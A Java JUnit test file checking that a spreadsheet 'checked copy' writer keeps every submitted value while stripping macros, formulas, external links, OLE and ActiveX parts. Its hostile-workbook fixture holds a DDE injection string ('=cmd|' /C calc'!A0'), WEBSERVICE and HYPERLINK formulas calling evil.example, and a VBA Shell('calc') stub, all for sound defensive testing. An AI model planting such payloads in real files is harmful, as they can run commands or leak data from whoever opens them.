package org.idva.insights.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.idva.insights.fixtures.Checking;
import org.idva.insights.fixtures.Zips;
import org.idva.insights.model.CheckedReturn;
import org.idva.insights.model.Finding;
import org.idva.insights.model.ReturnInfo;
import org.idva.insights.model.ReturnStatus;
import org.idva.insights.model.Severity;
import org.idva.insights.model.SourceLocation;
import org.idva.insights.schema.Schema;
import org.idva.insights.schema.SchemaLoader;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The checked copy is made by streaming the submitted package: every value of the return is kept,
 * and nothing active of a submitted file reaches it (issue 15 point 4).
 */
class CheckedCopyTest {
  @TempDir Path dir;

  /** Every cell of every sheet of sample returns reads back the same in the copy. */
  @Test
  void everyValueOfTheSampleReturnsIsKept() throws Exception {
    Schema schema = SchemaLoader.loadDefault();
    List<Path> returns;
    try (Stream<Path> files = Files.list(Path.of("input"))) {
      returns = files.filter(f -> f.toString().endsWith(".xlsx")).sorted().toList();
    }
    int copied = 0;
    for (Path original : returns) {
      CheckedReturn checked = Checking.check(schema, original);
      if (checked.findings().isEmpty() || copied == 4) {
        continue;
      }
      copied++;
      Path copy = dir.resolve(original.getFileName() + "-checked.xlsx");
      new FeedbackWorkbookWriter(code -> "Title of " + code).write(original, checked, copy);
      try (XSSFWorkbook before = open(original);
          XSSFWorkbook after = open(copy)) {
        assertThat(after.getSheetAt(0).getSheetName()).isEqualTo("Issues");
        assertThat(after.getNumberOfSheets()).isEqualTo(before.getNumberOfSheets() + 1);
        int marked = 0;
        for (Sheet sheet : before) {
          Sheet inCopy = after.getSheet(sheet.getSheetName());
          assertThat(values(inCopy)).as(sheet.getSheetName()).isEqualTo(values(sheet));
          assertThat(after.isSheetHidden(after.getSheetIndex(inCopy)))
              .isEqualTo(before.isSheetHidden(before.getSheetIndex(sheet)));
          for (Row row : inCopy) {
            for (Cell cell : row) {
              if (cell.getCellComment() != null) {
                marked++;
              }
            }
          }
        }
        long cells =
            checked.findings().stream()
                .map(Finding::location)
                .filter(l -> l.hasRow() && l.hasColumn() && l.sheet() != null)
                .map(l -> l.sheet() + "!" + l.cell())
                .distinct()
                .count();
        assertThat(marked).as("one comment per cell with findings").isEqualTo((int) cells);
      }
    }
    assertThat(copied).as("sample returns with findings").isEqualTo(4);
  }

  /** A checked workbook sent back as the return: the earlier check's sheet, notes and fills go. */
  @Test
  void aCheckedWorkbookSentBackLosesTheEarlierCheck() throws Exception {
    Schema schema = SchemaLoader.loadDefault();
    Path original = Path.of("input/SVC01_2022-23-Q4.xlsx");
    CheckedReturn checked = Checking.check(schema, original);
    Finding dropped =
        checked.findings().stream()
            .filter(f -> f.location().hasRow() && f.location().hasColumn())
            .findFirst()
            .orElseThrow();
    FeedbackWorkbookWriter writer = new FeedbackWorkbookWriter(code -> "Title of " + code);
    Path first = dir.resolve("first-checked.xlsx");
    writer.write(original, checked, first);
    List<Finding> rest = new java.util.ArrayList<>(checked.findings());
    rest.removeIf(f -> f.location().equals(dropped.location()));
    Path again = dir.resolve("again-checked.xlsx");
    writer.write(
        first, new CheckedReturn(checked.info(), checked.status(), rest, checked.rows()), again);
    try (XSSFWorkbook before = open(first);
        XSSFWorkbook after = open(again)) {
      assertThat(after.getNumberOfSheets()).isEqualTo(before.getNumberOfSheets());
      assertThat(after.getSheetAt(0).getSheetName()).isEqualTo("Issues");
      Sheet sheet = after.getSheet(dropped.location().sheet());
      Cell cell = sheet.getRow(dropped.location().row() - 1).getCell(dropped.location().column());
      assertThat(cell.getCellComment()).isNull();
      assertThat(cell.getCellStyle().getFillPattern())
          .isEqualTo(org.apache.poi.ss.usermodel.FillPatternType.NO_FILL);
      int comments = 0;
      for (Row row : sheet) {
        for (Cell c : row) {
          if (c.getCellComment() != null) {
            comments++;
            assertThat(c.getCellComment().getString().getString())
                .as("not piled onto the earlier note")
                .isEqualTo(
                    before
                        .getSheet(sheet.getSheetName())
                        .getRow(c.getRowIndex())
                        .getCell(c.getColumnIndex())
                        .getCellComment()
                        .getString()
                        .getString());
          }
        }
      }
      assertThat(comments).isPositive();
    }
  }

  @Test
  void aHostileWorkbookLosesEveryActivePartAndKeepsItsValues() throws Exception {
    Path hostile = HostileWorkbook.write(dir.resolve("SVC01_2022-23-Q1.xlsm"));
    ReturnInfo info = new ReturnInfo("SVC01_2022-23-Q1.xlsm", "SVC01", null, "x", Instant.EPOCH);
    List<Finding> findings =
        List.of(
            new Finding(
                Severity.ERROR,
                "OUT_OF_RANGE",
                new SourceLocation("f", "Data", 1, 4),
                "42",
                "0 to 10",
                "=fix it"),
            new Finding(
                Severity.QUERY,
                "MISSING",
                new SourceLocation("f", "Data", 5, 7),
                "",
                "an answer",
                "Fill it in"));
    CheckedReturn checked = new CheckedReturn(info, ReturnStatus.REJECTED, findings, List.of());
    Path out = dir.resolve("checked.xlsx");
    new FeedbackWorkbookWriter(code -> code).write(hostile, checked, out);

    Map<String, String> parts = parts(out);
    assertThat(parts.keySet())
        .noneMatch(p -> p.contains("externalLink"))
        .noneMatch(p -> p.contains("vbaProject"))
        .noneMatch(p -> p.contains("embeddings"))
        .noneMatch(p -> p.contains("connections"))
        .noneMatch(p -> p.contains("queryTable"))
        .noneMatch(p -> p.contains("activeX"))
        .noneMatch(p -> p.startsWith("xl/drawings/drawing"))
        .noneMatch(p -> p.startsWith("customXml"));
    for (Map.Entry<String, String> p : parts.entrySet()) {
      String xml = p.getValue();
      assertThat(xml).as(p.getKey()).doesNotContain("<f>").doesNotContain("<f ");
      assertThat(xml).as(p.getKey()).doesNotContainIgnoringCase("TargetMode=\"External\"");
      assertThat(xml).as(p.getKey()).doesNotContain("evil.example");
      assertThat(xml).as(p.getKey()).doesNotContain("<oleObject").doesNotContain("<control");
      assertThat(xml).as(p.getKey()).doesNotContain("macroEnabled").doesNotContain("vba");
      assertThat(xml).as(p.getKey()).doesNotContain("externalReference");
    }
    assertThat(parts.get("xl/worksheets/sheet1.xml")).doesNotContain("<hyperlink");
    assertThat(parts.get("xl/workbook.xml"))
        .contains("list_ok")
        .doesNotContain("list_external")
        .doesNotContain("WEBSERVICE");

    try (XSSFWorkbook wb = open(out)) {
      assertThat(wb.getSheetAt(0).getSheetName()).isEqualTo("Issues");
      Sheet data = wb.getSheet("Data");
      Row row = data.getRow(0);
      // Text that looks like a formula stays text.
      assertThat(row.getCell(0).getCellType()).isEqualTo(CellType.STRING);
      assertThat(row.getCell(0).getStringCellValue()).isEqualTo("=cmd|' /C calc'!A0");
      assertThat(row.getCell(5).getStringCellValue()).isEqualTo("+hello");
      // Formulas became their cached values, and say so in a comment.
      assertThat(row.getCell(1).getCellType()).isEqualTo(CellType.STRING);
      assertThat(row.getCell(1).getStringCellValue()).isEqualTo("click");
      assertThat(row.getCell(1).getCellComment().getString().getString())
          .contains("held a formula");
      assertThat(row.getCell(2).getStringCellValue()).isEqualTo("cached answer");
      assertThat(row.getCell(3).getCellType()).isEqualTo(CellType.NUMERIC);
      assertThat(row.getCell(3).getNumericCellValue()).isEqualTo(2.0);
      assertThat(row.getCell(4).getNumericCellValue()).isEqualTo(42.0);
      assertThat(row.getCell(4).getHyperlink()).isNull();
      // Findings are marked, on existing and on blank cells.
      assertThat(row.getCell(4).getCellComment().getString().getString())
          .startsWith("Their note on E1\n\n")
          .contains("OUT_OF_RANGE");
      assertThat(data.getRow(2).getCell(0).getCellComment().getString().getString())
          .isEqualTo("Kept as it was");
      assertThat(row.getCell(4).getCellStyle().getFillForegroundColor())
          .isEqualTo(org.apache.poi.ss.usermodel.IndexedColors.ROSE.getIndex());
      Cell blank = data.getRow(4).getCell(7);
      assertThat(blank.getCellType()).isEqualTo(CellType.BLANK);
      assertThat(blank.getCellComment().getString().getString()).contains("MISSING");
      assertThat(data.getRow(2).getCell(0).getStringCellValue()).isEqualTo("after");
      for (Sheet s : wb) {
        for (Row r : s) {
          for (Cell c : r) {
            assertThat(c.getCellType()).isNotEqualTo(CellType.FORMULA);
            if (c.getHyperlink() != null) {
              assertThat(s.getSheetName()).isEqualTo("Issues");
              assertThat(c.getHyperlink().getAddress()).startsWith("'Data'!");
            }
          }
        }
      }
      assertThat(wb.getExternalLinksTable()).isEmpty();
      assertThat(wb.isMacroEnabled()).isFalse();
    }
  }

  /**
   * The copy reads the parts the reader kept (the same bytes as the file's, so the same copy) and
   * only those: a part served differently shows in the copy.
   */
  @Test
  void theCopyReadsThePartsTheReaderKept() throws Exception {
    Schema schema = SchemaLoader.loadDefault();
    Path original = Path.of("input/SVC04_2020-21-Q4.xlsx");
    CheckedReturn checked = Checking.check(schema, original);
    assertThat(checked.findings()).isNotEmpty();
    FeedbackWorkbookWriter writer = new FeedbackWorkbookWriter(code -> code);
    Path fromFile = dir.resolve("from-file.xlsx");
    writer.write(original, checked, fromFile);
    Path fromKept = dir.resolve("from-kept.xlsx");
    try (org.idva.insights.model.RawWorkbook wb =
        new org.idva.insights.ingest.WorkbookReader().open(original)) {
      assertThat(wb.parts().open("xl/worksheets/sheet2.xml")).isNotNull();
      writer.write(original, wb.parts(), checked, fromKept);
    }
    assertThat(parts(fromKept)).isEqualTo(parts(fromFile));

    // a part served with other bytes: the copy has them, not the file's
    byte[] about = part(original, "xl/worksheets/sheet1.xml");
    String changed =
        new String(about, StandardCharsets.UTF_8)
            .replaceFirst(
                "<c r=\"A1\"[^>]*>.*?</c>",
                "<c r=\"A1\" t=\"inlineStr\"><is><t>Served from the kept parts</t></is></c>");
    assertThat(changed).contains("Served from the kept parts");
    Path fromServed = dir.resolve("from-served.xlsx");
    writer.write(
        original,
        name ->
            name.equals("xl/worksheets/sheet1.xml")
                ? new java.io.ByteArrayInputStream(changed.getBytes(StandardCharsets.UTF_8))
                : null,
        checked,
        fromServed);
    assertThat(parts(fromServed).get("xl/worksheets/sheet1.xml"))
        .contains("Served from the kept parts");
    assertThat(parts(fromFile).get("xl/worksheets/sheet1.xml"))
        .doesNotContain("Served from the kept parts");
  }

  /**
   * A return with nothing to mark: each worksheet with nothing the copy leaves out goes in as
   * submitted, its compressed bytes as they came (the same CRC and compressed size), and every
   * value reads back the same. The one sheet the copy must change (the selected one) is streamed;
   * and a part whose kept bytes are not the file's is never taken from the file.
   */
  @Test
  void sheetsWithNothingToChangeGoInAsSubmitted() throws Exception {
    Schema schema = SchemaLoader.loadDefault();
    Path original = Path.of("input/SVC01_2020-21-Q1.xlsx");
    CheckedReturn checked = Checking.check(schema, original);
    assertThat(checked.findings()).isEmpty();
    FeedbackWorkbookWriter writer = new FeedbackWorkbookWriter(code -> code);
    Path copy = dir.resolve("copy.xlsx");
    writer.write(original, checked, copy);
    int asSubmitted = 0;
    try (ZipFile before = new ZipFile(original.toFile());
        ZipFile after = new ZipFile(copy.toFile())) {
      for (ZipEntry e : java.util.Collections.list(before.entries())) {
        if (!ReturnParts.worksheet(e.getName())) {
          continue;
        }
        ZipEntry inCopy = after.getEntry(e.getName());
        byte[] submitted = before.getInputStream(e).readAllBytes();
        boolean selected =
            new String(submitted, StandardCharsets.UTF_8).contains("tabSelected=\"true\"");
        byte[] copied = after.getInputStream(inCopy).readAllBytes();
        if (selected) {
          assertThat(copied).as(e.getName()).isNotEqualTo(submitted);
        } else {
          assertThat(copied).as(e.getName()).isEqualTo(submitted);
          assertThat(inCopy.getCrc()).isEqualTo(e.getCrc());
          assertThat(inCopy.getCompressedSize()).isEqualTo(e.getCompressedSize());
          asSubmitted++;
        }
      }
    }
    assertThat(asSubmitted).as("all but the selected sheet").isEqualTo(10);
    try (XSSFWorkbook before = open(original);
        XSSFWorkbook after = open(copy)) {
      for (Sheet sheet : before) {
        assertThat(values(after.getSheet(sheet.getSheetName())))
            .as(sheet.getSheetName())
            .isEqualTo(values(sheet));
      }
      assertThat(after.getSheetAt(0).getSheetName()).isEqualTo("Issues");
      assertThat(after.getActiveSheetIndex()).isZero();
      long selected = 0;
      for (Sheet sheet : after) {
        selected += sheet.isSelected() ? 1 : 0;
      }
      assertThat(selected).as("only the Issues sheet is selected").isEqualTo(1);
    }

    // a sheet that would go in as submitted, served with other bytes of the same length (so only
    // their CRC-32 tells them from the file's): the copy has those
    byte[] cases = part(original, "xl/worksheets/sheet3.xml");
    String served =
        new String(cases, StandardCharsets.UTF_8)
            .replaceFirst("<t>SVC01-21-1129</t>", "<t>SERVED-KEPT-1</t>");
    assertThat(served)
        .contains("SERVED-KEPT-1")
        .hasSameSizeAs(new String(cases, StandardCharsets.UTF_8));
    Path fromServed = dir.resolve("from-served.xlsx");
    writer.write(
        original,
        name ->
            name.equals("xl/worksheets/sheet3.xml")
                ? new java.io.ByteArrayInputStream(served.getBytes(StandardCharsets.UTF_8))
                : null,
        checked,
        fromServed);
    assertThat(parts(fromServed).get("xl/worksheets/sheet3.xml")).contains("SERVED-KEPT-1");
  }

  /** A part's bytes as the file holds them, inflated. */
  private static byte[] part(Path file, String name) throws IOException {
    try (ZipFile zip = new ZipFile(file.toFile());
        InputStream in = zip.getInputStream(zip.getEntry(name))) {
      return in.readAllBytes();
    }
  }

  private static XSSFWorkbook open(Path file) throws IOException {
    try (InputStream in = Files.newInputStream(file)) {
      return new XSSFWorkbook(in);
    }
  }

  /** Every non-blank cell as address = type: formatted value. */
  private static Map<String, String> values(Sheet sheet) {
    DataFormatter format = new DataFormatter();
    Map<String, String> out = new LinkedHashMap<>();
    for (Row row : sheet) {
      for (Cell cell : row) {
        if (cell.getCellType() != CellType.BLANK) {
          out.put(
              cell.getAddress().formatAsString(),
              cell.getCellType() + ": " + format.formatCellValue(cell));
        }
      }
    }
    return out;
  }

  private static Map<String, String> parts(Path zip) throws IOException {
    Map<String, String> parts = new LinkedHashMap<>();
    try (ZipFile z = new ZipFile(zip.toFile())) {
      for (ZipEntry e : java.util.Collections.list(z.entries())) {
        try (InputStream in = z.getInputStream(e)) {
          parts.put(e.getName(), new String(in.readAllBytes(), StandardCharsets.ISO_8859_1));
        }
      }
    }
    return parts;
  }

  /**
   * A macro-enabled workbook with everything a checked copy must not carry: formulas (HYPERLINK,
   * WEBSERVICE, arithmetic), an external link and a defined name through it, a VBA project, an OLE
   * object, a drawing, a data connection with a query table, an external hyperlink and custom XML.
   */
  static final class HostileWorkbook {
    private static final String REL =
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    static Path write(Path file) throws IOException {
      Map<String, String> parts = new LinkedHashMap<>();
      parts.put(
          "[Content_Types].xml",
          "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types"
              + " xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
              + "<Default Extension=\"rels\""
              + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
              + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
              + "<Default Extension=\"bin\""
              + " ContentType=\"application/vnd.ms-office.vbaProject\"/>"
              + "<Override PartName=\"/xl/workbook.xml\""
              + " ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"
              + "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/"
              + "vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
              + "<Override PartName=\"/xl/styles.xml\" ContentType=\"application/"
              + "vnd.openxmlformats-officedocument.spreadsheetml.styles+xml\"/>"
              + "<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType="
              + "\"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml\"/>"
              + "<Override PartName=\"/xl/connections.xml\" ContentType=\"application/"
              + "vnd.openxmlformats-officedocument.spreadsheetml.connections+xml\"/>"
              + "</Types>");
      parts.put(
          "_rels/.rels",
          rels(
              "<Relationship Id=\"rId1\" Type=\""
                  + REL
                  + "/officeDocument\" Target=\"xl/workbook.xml\"/>"
                  + "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/"
                  + "officeDocument/2006/relationships/customXml\" Target=\"customXml/item1.xml\"/>"));
      parts.put("customXml/item1.xml", "<x>evil.example</x>");
      parts.put(
          "xl/workbook.xml",
          "<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook"
              + " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
              + " xmlns:r=\""
              + REL
              + "\"><workbookPr codeName=\"ThisWorkbook\"/><bookViews><workbookView"
              + " activeTab=\"0\"/></bookViews><sheets><sheet name=\"Data\" sheetId=\"1\""
              + " r:id=\"rId1\"/></sheets><externalReferences><externalReference"
              + " r:id=\"rId3\"/></externalReferences><definedNames>"
              + "<definedName name=\"list_ok\">'Data'!$A$1:$A$3</definedName>"
              + "<definedName name=\"list_external\">[1]Sheet1!$A$1</definedName>"
              + "<definedName name=\"list_call\">WEBSERVICE(\"http://evil.example\")</definedName>"
              + "<definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">'Data'!$A$1:$H$5"
              + "</definedName></definedNames><calcPr calcId=\"191029\"/></workbook>");
      parts.put(
          "xl/_rels/workbook.xml.rels",
          rels(
              "<Relationship Id=\"rId1\" Type=\""
                  + REL
                  + "/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
                  + "<Relationship Id=\"rId2\" Type=\""
                  + REL
                  + "/styles\" Target=\"styles.xml\"/>"
                  + "<Relationship Id=\"rId3\" Type=\""
                  + REL
                  + "/externalLink\" Target=\"externalLinks/externalLink1.xml\"/>"
                  + "<Relationship Id=\"rId4\" Type=\"http://schemas.microsoft.com/office/2006/"
                  + "relationships/vbaProject\" Target=\"vbaProject.bin\"/>"
                  + "<Relationship Id=\"rId5\" Type=\""
                  + REL
                  + "/connections\" Target=\"connections.xml\"/>"));
      parts.put(
          "xl/externalLinks/externalLink1.xml",
          "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
              + " xmlns:r=\""
              + REL
              + "\"><externalBook r:id=\"rId1\"/></externalLink>");
      parts.put(
          "xl/externalLinks/_rels/externalLink1.xml.rels",
          rels(
              "<Relationship Id=\"rId1\" Type=\""
                  + REL
                  + "/externalLinkPath\" Target=\"http://evil.example/book.xlsx\""
                  + " TargetMode=\"External\"/>"));
      parts.put("xl/vbaProject.bin", "Attribute VB_Name = \"evil\" Shell(\"calc\")");
      parts.put(
          "xl/connections.xml",
          "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
              + "<connection id=\"1\" name=\"web\" type=\"4\"><webPr"
              + " url=\"http://evil.example/data\"/></connection></connections>");
      parts.put(
          "xl/queryTables/queryTable1.xml",
          "<queryTable xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
              + " name=\"q\" connectionId=\"1\"/>");
      parts.put("xl/embeddings/oleObject1.bin", "OLE evil.example");
      parts.put(
          "xl/drawings/drawing1.xml",
          "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/"
              + "spreadsheetDrawing\"/>");
      parts.put(
          "xl/styles.xml",
          "<?xml version=\"1.0\" encoding=\"UTF-8\"?><styleSheet"
              + " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
              + "<fonts count=\"1\"><font><sz val=\"11\"/><name val=\"Calibri\"/></font></fonts>"
              + "<fills count=\"2\"><fill><patternFill patternType=\"none\"/></fill><fill>"
              + "<patternFill patternType=\"gray125\"/></fill></fills><borders count=\"1\">"
              + "<border><left/><right/><top/><bottom/><diagonal/></border></borders>"
              + "<cellStyleXfs count=\"1\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\""
              + " borderId=\"0\"/></cellStyleXfs><cellXfs count=\"2\"><xf numFmtId=\"0\""
              + " fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\"/><xf numFmtId=\"14\""
              + " fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" applyNumberFormat=\"1\"/>"
              + "</cellXfs><cellStyles count=\"1\"><cellStyle name=\"Normal\" xfId=\"0\""
              + " builtinId=\"0\"/></cellStyles></styleSheet>");
      parts.put(
          "xl/worksheets/sheet1.xml",
          "<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet"
              + " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
              + " xmlns:r=\""
              + REL
              + "\"><sheetViews><sheetView tabSelected=\"1\" workbookViewId=\"0\"/></sheetViews>"
              + "<cols><col min=\"8\" max=\"8\" width=\"12\" style=\"1\" customWidth=\"1\"/></cols>"
              + "<sheetData><row r=\"1\" spans=\"1:6\">"
              + "<c r=\"A1\" t=\"inlineStr\"><is><t>=cmd|' /C calc'!A0</t></is></c>"
              + "<c r=\"B1\" t=\"str\"><f>HYPERLINK(\"http://evil.example\",\"click\")</f>"
              + "<v>click</v></c>"
              + "<c r=\"C1\" t=\"str\"><f>WEBSERVICE(\"http://evil.example/x\")</f>"
              + "<v>cached answer</v></c>"
              + "<c r=\"D1\"><f>1+1</f><v>2</v></c>"
              + "<c r=\"E1\"><v>42</v></c>"
              + "<c r=\"F1\" t=\"inlineStr\"><is><t>+hello</t></is></c></row>"
              + "<row r=\"3\"><c r=\"A3\" t=\"inlineStr\"><is><t>after</t></is></c></row>"
              + "</sheetData>"
              + "<hyperlinks><hyperlink ref=\"E1\" r:id=\"rId1\"/></hyperlinks>"
              + "<pageMargins left=\"0.7\" right=\"0.7\" top=\"0.75\" bottom=\"0.75\""
              + " header=\"0.3\" footer=\"0.3\"/><pageSetup orientation=\"portrait\""
              + " r:id=\"rId4\"/>"
              + "<drawing r:id=\"rId2\"/><oleObjects><oleObject progId=\"Package\""
              + " shapeId=\"1025\" r:id=\"rId3\"/></oleObjects>"
              + "<controls><control shapeId=\"1026\" r:id=\"rId5\" name=\"evil\"/></controls>"
              + "<tableParts count=\"0\"/></worksheet>");
      parts.put(
          "xl/worksheets/_rels/sheet1.xml.rels",
          rels(
              "<Relationship Id=\"rId1\" Type=\""
                  + REL
                  + "/hyperlink\" Target=\"http://evil.example/\" TargetMode=\"External\"/>"
                  + "<Relationship Id=\"rId2\" Type=\""
                  + REL
                  + "/drawing\" Target=\"../drawings/drawing1.xml\"/>"
                  + "<Relationship Id=\"rId3\" Type=\""
                  + REL
                  + "/oleObject\" Target=\"../embeddings/oleObject1.bin\"/>"
                  + "<Relationship Id=\"rId5\" Type=\""
                  + REL
                  + "/control\" Target=\"../activeX/activeX1.xml\"/>"
                  + "<Relationship Id=\"rId6\" Type=\""
                  + REL
                  + "/comments\" Target=\"../comments1.xml\"/>"));
      parts.put(
          "xl/comments1.xml",
          "<comments xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
              + "<authors><author>Them</author></authors><commentList>"
              + "<comment ref=\"E1\" authorId=\"0\"><text><r><t>Their note</t></r>"
              + "<r><t xml:space=\"preserve\"> on E1</t></r></text></comment>"
              + "<comment ref=\"A3\" authorId=\"0\"><text><t>Kept as it was</t></text>"
              + "</comment></commentList></comments>");
      parts.put("xl/activeX/activeX1.xml", "<ax classid=\"evil.example\"/>");
      return Zips.write(file, parts);
    }

    private static String rels(String body) {
      return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships"
          + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
          + body
          + "</Relationships>";
    }
  }
}
